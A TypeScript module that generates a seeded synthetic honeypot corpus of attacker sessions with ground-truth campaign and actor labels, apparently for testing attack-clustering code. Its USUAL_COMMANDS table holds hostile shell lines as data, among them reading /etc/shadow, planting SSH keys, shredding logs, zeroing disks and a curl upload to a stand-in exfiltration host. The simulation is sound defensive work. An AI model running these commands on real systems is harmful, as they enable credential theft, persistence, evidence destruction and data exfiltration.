/** Makes a corpus of a description: the same one for the same seed, in every process. */
import { createHash } from 'node:crypto'
import { isObservable, type Phase } from '../../protocols/clustering/ukc_phase.ts'
import { type Random, seeded } from '../protocols/clustering/random.ts'
import type { ActorSpec, CampaignSpec, CorpusSpec, PhaseSpec } from './spec.ts'

interface Truth {
  readonly truth_campaign_id: string
  readonly truth_actor_id: string
  readonly truth_identity_id: string
}

export interface Session extends Truth {
  readonly session_id: string
  readonly attacker_id: string
  readonly decky_id: string
  /** ms since the epoch, whole seconds */
  readonly started_at: number
  readonly duration_s: number
  readonly phase: Phase
  readonly commands: readonly string[]
  readonly credentials_tried: readonly (readonly [string, string])[]
  readonly payload_hash: string | null
  readonly c2_callback: string | null
}

/** One address. */
export interface Row extends Truth {
  readonly attacker_id: string
  readonly ip: string
  readonly asn: number
  readonly ja3: string | null
  readonly hassh: string | null
  first_seen: number
  last_seen: number
  readonly sessions: Session[]
}

export interface Corpus {
  readonly rows: readonly Row[]
  readonly sessions: readonly Session[]
  readonly warnings: readonly string[]
}

export const EPOCH = Date.UTC(2026, 0, 1)
const DAY = 86_400_000
const DECKIES = Array.from({ length: 20 }, (_, index) => `decky-${`${index + 1}`.padStart(2, '0')}`)
const [FIRST_DECKY] = DECKIES as [string]

/** What is typed where the description names no commands; no command is in two phases. */
const USUAL_COMMANDS: Partial<Record<Phase, readonly string[]>> = {
  discovery: ['uname -srm', 'who -b', 'ss -lnt', 'df -h', 'ps -eo comm', 'cat /etc/os-release'],
  credential_access: ['cat /etc/shadow', 'find / -name id_ed25519', 'grep -r passw /srv'],
  persistence: ['crontab -', 'systemctl enable upd', 'tee -a /root/.ssh/authorized_keys'],
  lateral_movement: ['ssh -J gate db', 'scp kit.tgz files:/var/tmp'],
  privilege_escalation: ['sudo -n -l', 'find / -perm -4000'],
  defense_evasion: ['unset HISTFILE', 'shred -u /var/log/wtmp'],
  execution: ['sh /dev/shm/stage'],
  collection: ['tar -C /srv -cf /var/tmp/out.tar .'],
  exfiltration: ['curl -T /var/tmp/out.tar sink.example'],
  impact: ['dd if=/dev/zero of=/srv/data.img'],
}

export function generate(spec: CorpusSpec, seed = 0): Corpus {
  const random = seeded(seed)
  const warnings = [...spec.warnings]
  const made: Corpus & { rows: Row[]; sessions: Session[]; ips: Set<string> } = {
    rows: [],
    sessions: [],
    warnings,
    ips: new Set(),
  }
  for (const campaign of spec.campaigns) generateCampaign(campaign, random, made, warnings)
  for (let index = 0; index < spec.scanner_count; index++) {
    const name = `noise-scanner-${`${index}`.padStart(4, '0')}`
    const truth = { truth_campaign_id: name, truth_actor_id: name, truth_identity_id: name }
    const attacker_id = idOf('att', random)
    const ip = newAddress(random, made.ips)
    const asn = 1000 + random.below(64_001)
    const row: Row = {
      attacker_id,
      ip,
      asn,
      ja3: null,
      hassh: null,
      first_seen: EPOCH,
      last_seen: EPOCH,
      sessions: [],
      ...truth,
    }
    made.rows.push(row)
    const started_at = EPOCH + random.below(86_400) * 1000
    const session_id = idOf('sess', random)
    const decky_id = random.pick(DECKIES)
    addSession(made, row, {
      session_id,
      decky_id,
      started_at,
      duration_s: 1,
      phase: 'delivery',
      commands: [],
      credentials_tried: [],
      payload_hash: null,
      c2_callback: null,
    })
  }
  for (const row of made.rows) {
    if (row.sessions.length === 0) continue
    const starts = row.sessions.map(({ started_at }) => started_at)
    row.first_seen = Math.min(...starts)
    row.last_seen = Math.max(...starts)
  }
  return { rows: made.rows, sessions: made.sessions, warnings }
}

interface Made {
  readonly rows: Row[]
  readonly sessions: Session[]
  readonly ips: Set<string>
}

function generateCampaign(campaign: CampaignSpec, random: Random, made: Made, warnings: string[]) {
  const rowsOf = new Map<string, Row[]>()
  for (const actor of campaign.actors) {
    const truth = {
      truth_campaign_id: campaign.id,
      truth_actor_id: actor.id,
      truth_identity_id: idOf('id', random),
    }
    const rows = Array.from(
      { length: actor.rotating ? actor.rotation_count : 1 },
      (_, index): Row => {
        const attacker_id = idOf('att', random)
        const ip = newAddress(random, made.ips)
        const { ja3, hassh, rotation_asns } = actor
        const asn = rotation_asns[index % rotation_asns.length] ?? actor.asn
        return {
          attacker_id,
          ip,
          asn,
          ja3,
          hassh,
          first_seen: EPOCH,
          last_seen: EPOCH,
          sessions: [],
          ...truth,
        }
      },
    )
    rowsOf.set(actor.id, rows)
    made.rows.push(...rows)
  }
  const successes = new Map<string, string>()
  for (const phase of campaign.phases) {
    if (!isObservable(phase.name)) continue
    const actor = campaign.actors.find(({ id }) => id === phase.actor) as ActorSpec
    const days = eligibleDays(campaign, actor)
    if (days.length === 0) {
      warnings.push(`campaign ${campaign.id}: actor ${actor.id} has no day for ${phase.name}`)
      continue
    }
    const rows = rowsOf.get(actor.id) as Row[]
    const foothold =
      phase.successOf === undefined ? undefined : (successes.get(phase.successOf) ?? FIRST_DECKY)
    for (let index = 0; index < phase.count; index++) {
      const started_at = startOf(actor, days, random)
      const session_id = idOf('sess', random)
      const drawn = random.pick(DECKIES)
      const decky_id = foothold ?? drawn
      addSession(made, rows[index % rows.length] as Row, {
        session_id,
        decky_id,
        started_at,
        ...toolsOf(phase),
      })
      if (phase.name === 'exploitation' || phase.name === 'persistence') {
        successes.set(actor.id, decky_id)
      }
    }
  }
}

const toolsOf = (phase: PhaseSpec) => ({
  duration_s: phase.dwell_seconds,
  phase: phase.name,
  commands: phase.commands ?? USUAL_COMMANDS[phase.name] ?? [],
  credentials_tried: phase.credentials,
  payload_hash:
    phase.payload === undefined ? null : createHash('sha256').update(phase.payload).digest('hex'),
  c2_callback: phase.c2_callback,
})

function addSession(made: Made, row: Row, session: Omit<Session, keyof Truth | 'attacker_id'>) {
  const { attacker_id, truth_campaign_id, truth_actor_id, truth_identity_id } = row
  const whole = { ...session, attacker_id, truth_campaign_id, truth_actor_id, truth_identity_id }
  row.sessions.push(whole)
  made.sessions.push(whole)
}

function eligibleDays({ duration_days, pause_windows }: CampaignSpec, actor: ActorSpec): number[] {
  const days = Array.from({ length: duration_days }, (_, day) => day)
  return days.filter(
    (day) =>
      (actor.active_days?.includes(day) ?? true) &&
      !pause_windows.some(([first, last]) => day >= first && day <= last),
  )
}

/** Within the hour that was drawn, whatever the jitter. */
function startOf(actor: ActorSpec, days: readonly number[], random: Random): number {
  const day = random.pick(days)
  const hour = random.pick(actor.hours_active_utc)
  const jitter = random.below(2 * actor.jitter_seconds + 1) - actor.jitter_seconds
  const offset = random.below(3601)
  const second = Math.min(Math.max(jitter + offset, 0), 3599)
  return EPOCH + day * DAY + hour * 3_600_000 + second * 1000
}

function newAddress(random: Random, taken: Set<string>): string {
  for (;;) {
    const [a, b, c, d] = [
      1 + random.below(223),
      random.below(256),
      random.below(256),
      1 + random.below(254),
    ] as const
    if (a === 10 || a === 127 || (a === 172 && b >= 16 && b < 32) || (a === 192 && b === 168))
      continue
    const ip = `${a}.${b}.${c}.${d}`
    if (taken.has(ip)) continue
    taken.add(ip)
    return ip
  }
}

function idOf(prefix: string, random: Random): string {
  const hex = Array.from({ length: 16 }, () =>
    random.below(256).toString(16).padStart(2, '0'),
  ).join('')
  const parts = [
    hex.slice(0, 8),
    hex.slice(8, 12),
    hex.slice(12, 16),
    hex.slice(16, 20),
    hex.slice(20),
  ]
  return `${prefix}-${parts.join('-')}`
}

/**
 * @returns the true label of each row
 * @throws on a level that is none
 */
export function truthLabels(corpus: Corpus, level = 'campaign'): Map<string, string> {
  const field = (
    {
      campaign: 'truth_campaign_id',
      identity: 'truth_identity_id',
      actor: 'truth_actor_id',
    } as const
  )[level]
  if (field === undefined) throw new Error(`truth has no level ${level}`)
  return new Map(corpus.rows.map((row) => [row.attacker_id, row[field]]))
}
